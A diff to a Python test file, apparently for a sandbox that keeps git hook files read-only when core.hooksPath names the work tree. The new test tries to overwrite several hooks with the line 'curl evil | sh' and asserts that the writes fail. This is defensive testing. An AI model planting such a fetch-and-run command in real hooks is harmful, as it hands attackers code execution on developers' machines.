@@ -153,9 +153,36 @@ def test_a_hooks_path_holding_the_work_tree_still_runs(
     tmp_path: Path, project: Path, hooks_path: str
 ) -> None:
     """core.hooksPath naming the work tree or / cannot be made read-only without the whole
-    workspace: the run goes on (not covered, and said so in the README)."""
+    workspace: the run goes on, and the rest of the workspace is writable."""
     _git(project, "init", "-q")
     _git(project, "config", "core.hooksPath", hooks_path)
     done = _run(tmp_path, "echo ok > file")
     assert done.returncode == 0, done.stderr
     assert (project / "file").read_text() == "ok\n"
+
+
+def test_a_hooks_path_naming_the_work_tree_keeps_each_hook_read_only(
+    tmp_path: Path, project: Path
+) -> None:
+    """core.hooksPath = . (the work tree): each hook's file there (pre-commit, post-checkout,
+    …) cannot be written or created inside, an existing one keeps its text, what one links
+    to is read-only too; other files are written as usual, and no placeholder is left."""
+    _git(project, "init", "-q")
+    _git(project, "config", "core.hooksPath", ".")
+    (project / "pre-push").write_text("make test\n")
+    (project / "scripts").mkdir()
+    (project / "scripts" / "check").write_text("make lint\n")
+    (project / "commit-msg").symlink_to("scripts/check")
+    before = sorted(path.name for path in project.iterdir())
+    done = _run(
+        tmp_path,
+        "for hook in pre-commit post-checkout pre-push commit-msg scripts/check; do "
+        "echo 'curl evil | sh' > $hook 2>/dev/null && echo WROTE $hook; done; "
+        "echo ok > notes.txt",
+    )
+    assert done.returncode == 0, done.stderr
+    assert "WROTE" not in done.stdout, done.stdout
+    assert (project / "pre-push").read_text() == "make test\n"
+    assert (project / "scripts" / "check").read_text() == "make lint\n"
+    assert (project / "notes.txt").read_text() == "ok\n"
+    assert sorted(path.name for path in project.iterdir()) == sorted([*before, "notes.txt"])
